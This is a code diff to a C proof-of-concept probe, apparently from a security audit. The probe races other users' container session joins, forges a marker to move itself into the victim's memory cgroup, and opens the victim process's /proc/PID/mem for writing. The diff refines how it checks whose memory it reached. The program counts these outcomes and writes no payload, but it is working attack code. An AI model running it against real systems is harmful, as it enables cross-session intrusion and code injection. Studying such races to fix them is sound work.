@@ -10,9 +10,11 @@
  * marker goes back after each try (so the victim's end does not take it).
  * It also tries to open the waiting join's memory for writing (a payload
  * written there would run beside the session's init, in the container's
- * memory cgroup, before the move). Stops after VICTIMS joins seen or
- * SECONDS; prints "seen N moved M writable W" and one line per run it
- * landed in.
+ * memory cgroup, before the move; join_mem tells an open of the join's
+ * memory from one that came after it ran the victim's command). Stops
+ * after VICTIMS joins seen or SECONDS; prints "seen N moved M writable
+ * W", "late L" (opens that held the command's memory) and one line per
+ * run it landed in.
  */
 #include <dirent.h>
 #include <fcntl.h>
@@ -82,6 +84,74 @@ find_join(const char *own, const char *last, size_t len, char *run)
 	return found;
 }
 
+/* The argv area of pid (fields 48-49 of its stat): 0 when not shown. */
+static int
+arg_area(int pid, unsigned long long *start, unsigned long long *end)
+{
+	char	 path[64], buf[1024], *p;
+	int	 i;
+
+	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
+	if (slurp(path, buf, sizeof(buf)) <= 0 ||
+	    (p = strrchr(buf, ')')) == NULL)
+		return 0;
+	for (i = 2; i < 48 && p != NULL; i++)	/* p: before field i + 1 */
+		p = strchr(p + 1, ' ');
+	return p != NULL && sscanf(p + 1, "%llu %llu", start, end) == 2 &&
+	    *end > *start;
+}
+
+/* 1 when the memory behind fd holds "join\0RUN\0" in [start, end). */
+static int
+holds_join(int fd, const char *run, unsigned long long start,
+    unsigned long long end)
+{
+	char	 buf[512], want[160];
+	size_t	 wl, i;
+	ssize_t	 n;
+
+	wl = (size_t)snprintf(want, sizeof(want), "join%c%s", '\0', run) + 1;
+	if (end - start > sizeof(buf))
+		end = start + sizeof(buf);
+	if ((n = pread(fd, buf, end - start, (off_t)start)) <= 0)
+		return 0;
+	for (i = 0; i + wl <= (size_t)n; i++)
+		if (memcmp(buf + i, want, wl) == 0)
+			return 1;
+	return 0;
+}
+
+/*
+ * Open the join's memory for writing: 1 when that worked and the
+ * descriptor holds the join's own memory (its argv, read through it,
+ * still names the join of run), 2 when it opened but holds another
+ * program's (the join had already executed the victim's command, which
+ * is dumpable as any command and runs in the victim's cgroup: not the
+ * window this row is about), 0 when it did not open. /proc/PID/mem is
+ * bound to the memory the process had at open(2), so the argv read
+ * through it says whose memory a writer would have reached. The argv's
+ * place is read before the open (the join's, if /proc shows it) and
+ * after (once the open worked, /proc shows it), so a join that executes
+ * its command just after either read is still found.
+ */
+static int
+join_mem(int pid, const char *run)
+{
+	unsigned long long	 s1 = 0, e1 = 0, s2 = 0, e2 = 0;
+	char			 path[64];
+	int			 fd, rv;
+
+	arg_area(pid, &s1, &e1);
+	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+	if ((fd = open(path, O_RDWR)) == -1)
+		return 0;
+	arg_area(pid, &s2, &e2);
+	rv = (e1 > s1 && holds_join(fd, run, s1, e1)) ||
+	    (e2 > s2 && holds_join(fd, run, s2, e2)) ? 1 : 2;
+	close(fd);
+	return rv;
+}
+
 /* 1 when our memory cgroup is .../run. */
 static int
 in_run(const char *run)
@@ -104,8 +174,7 @@ main(int argc, char **argv)
 	char	*mark = NULL, own[128], run[128], last[128] = "";
 	double	 end, t;
 	size_t	 len;
-	char	 path[64];
-	int	 i, pid, fd, seen = 0, moved = 0, writable = 0, victims;
+	int	 i, pid, fd, seen = 0, moved = 0, writable = 0, late = 0, victims;
 
 	if (argc != 3)
 		return 2;
@@ -120,11 +189,10 @@ main(int argc, char **argv)
 	while (seen < victims && now() < end) {
 		if ((pid = find_join(own, last, len, run)) == 0)
 			continue;
-		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
-		if ((fd = open(path, O_RDWR)) != -1) {
+		if ((fd = join_mem(pid, run)) == 1)
 			writable++;
-			close(fd);
-		}
+		else if (fd == 2)
+			late++;
 		memcpy(mark, run, len);		/* the forged marker */
 		memcpy(last, run, len + 1);
 		seen++;
@@ -137,5 +205,6 @@ main(int argc, char **argv)
 		memcpy(mark, own, len);
 	}
 	printf("seen %d moved %d writable %d\n", seen, moved, writable);
+	printf("late %d\n", late);
 	return 0;
 }
